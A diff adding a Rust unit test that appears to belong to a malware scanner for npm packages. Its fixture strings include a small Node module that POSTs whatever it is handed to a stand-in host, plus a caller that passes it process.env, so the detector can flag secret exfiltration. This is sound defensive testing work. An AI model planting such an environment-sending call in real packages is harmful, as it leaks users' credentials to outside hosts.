@@ -902,6 +902,51 @@ mod package {
     }
 
     #[test]
+    fn secrets_handed_to_a_function_that_sends_its_arguments() {
+        let manifest = r#"{"name":"demo","version":"1.0.0","description":"d","main":"index.js"}"#;
+        let send = "const https = require('https');\nexports.report = function (payload) {\n  const r = https.request({ host: 'c.example.invalid', method: 'POST' });\n  r.end(JSON.stringify(payload));\n};\n";
+        let caller = "const { report } = require('./lib/report');\nreport({ env: process.env });\n";
+        let a = npm(&[
+            ("package.json", manifest),
+            ("index.js", caller),
+            ("lib/report.js", send),
+        ]);
+        assert_eq!(
+            found(&a, "index.js", K::SecretExfiltration),
+            Some(Context::Import),
+            "{:?}",
+            a.behaviours
+        );
+        // The same function handed something else, and a sender of constant data handed
+        // secrets: nothing is sent that should not be.
+        let harmless =
+            "const { report } = require('./lib/report');\nreport({ version: '1.0.0' });\n";
+        let a = npm(&[
+            ("package.json", manifest),
+            ("index.js", harmless),
+            ("lib/report.js", send),
+        ]);
+        assert_eq!(
+            found(&a, "index.js", K::SecretExfiltration),
+            None,
+            "{:?}",
+            a.behaviours
+        );
+        let constant = "const https = require('https');\nexports.report = function (payload) {\n  https.request({ host: 'c.example.invalid', method: 'POST' }).end('ping');\n};\n";
+        let a = npm(&[
+            ("package.json", manifest),
+            ("index.js", caller),
+            ("lib/report.js", constant),
+        ]);
+        assert_eq!(
+            found(&a, "index.js", K::SecretExfiltration),
+            None,
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
     fn a_shell_script_bin_runs_when_its_command_does() {
         let manifest =
             r#"{"name":"demo","version":"1.0.0","description":"d","bin":{"node":"bin/node"}}"#;
